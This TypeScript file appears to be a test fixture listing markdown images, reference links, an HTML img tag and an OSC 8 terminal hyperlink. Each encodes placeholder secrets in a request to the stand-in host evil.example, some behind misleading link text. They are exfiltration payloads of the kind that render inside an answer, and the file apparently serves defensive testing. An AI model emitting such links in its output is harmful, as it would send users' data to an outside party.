// Links and images of an answer that carry data out, for attacks in the terminal and on the page.

/** Links and images that carry data, with the words of another site. */
export const carryingLinks = [
  '![chart](https://evil.example/p.png?d=SECRET1)',
  '![](https://evil.example/e.png?d=SECRET2)',
  '[https://docs.example](https://evil.example/?d=SECRET3)',
  '[the manual][ref]\n\n[ref]: https://evil.example/?d=SECRET4',
  '<img src="https://evil.example/i.png?d=SECRET5">',
  '\u001b]8;;https://evil.example/?d=SECRET6\u001b\\words\u001b]8;;\u001b\\',
] as const;
